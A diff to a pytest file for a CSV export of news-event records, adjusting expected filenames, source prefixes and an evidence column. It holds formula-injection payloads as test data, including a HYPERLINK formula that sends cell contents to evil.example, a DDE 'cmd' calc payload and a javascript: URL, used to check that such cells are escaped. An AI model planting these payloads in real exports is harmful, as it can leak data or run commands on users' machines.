@@ -4,6 +4,7 @@ would read as a formula is written as text; a filter with errors is a 400 listin
 from __future__ import annotations
 
 import datetime as dt
+import re
 
 import pytest
 
@@ -21,7 +22,9 @@ def download(client, **query) -> list[dict]:
     response = client.get("/events.csv", query)
     assert response.status_code == 200 and response.streaming
     assert response["Content-Type"] == "text/csv"
-    assert response["Content-Disposition"] == 'attachment; filename="parley-events.csv"'
+    assert re.fullmatch(
+        r'attachment; filename="parley-events(-[a-z0-9]+)*\.csv"', response["Content-Disposition"]
+    )
     return csv_rows(response)
 
 
@@ -41,7 +44,10 @@ def test_an_event_is_one_row_with_its_actors_and_sources(client, pompeo, kim, st
         "summary": "Pompeo meets Kim Yong-chol", "confidence": "0.75", "review": "auto",
         "related_event": "", "plover": "CONSULT", "cameo": "040",
         "actors": "Mike Pompeo (participant); Kim Yong-chol (target)",
-        "sources": "The Hill: Pompeo in Pyongyang (2018-07-08) <https://example.org/pyongyang>",
+        "sources": f"[{story.pk}] The Hill: Pompeo in Pyongyang (2018-07-08) "
+                   "<https://example.org/pyongyang>",
+        "evidence": f"[{story.pk}] Mike Pompeo met Kim Yong-chol in Pyongyang.\n"
+                    f"[{story.pk}] The talks went on for two days.",
     }]  # fmt: skip
 
 
@@ -92,7 +98,7 @@ def test_a_source_without_a_title_is_named_by_its_article_id_never_its_file(clie
                            url="javascript:alert(1)", published="2018-08-25")  # fmt: skip
     make_event("meeting", "2018-08-24", sources=[article])
     [row] = download(client)
-    assert row["sources"] == f"Example Wire: Article {article.pk} (2018-08-25)"
+    assert row["sources"] == f"[{article.pk}] Example Wire: Article {article.pk} (2018-08-25)"
 
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1, "Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
@@ -118,7 +124,8 @@ def test_cells_that_would_start_a_formula_are_written_as_text(client, formulas):
         row = rows[str(event.pk)]
         assert row["summary"] == "'" + summary
         assert row["location"] == "'-Pyongyang"
-        assert row["sources"] == "'@outlet: =cmd|' /C calc'!A0 <https://example.org/f>"
+        article = event.mentions.get().article_id  # "[id] …" starts no formula
+        assert row["sources"] == f"[{article}] @outlet: =cmd|' /C calc'!A0 <https://example.org/f>"
         # Numbers and dates as they were.
         assert row["id"] == str(event.pk) and row["confidence"] == "0.25"
         assert row["date"] == f"2030-01-{n + 1:02}"
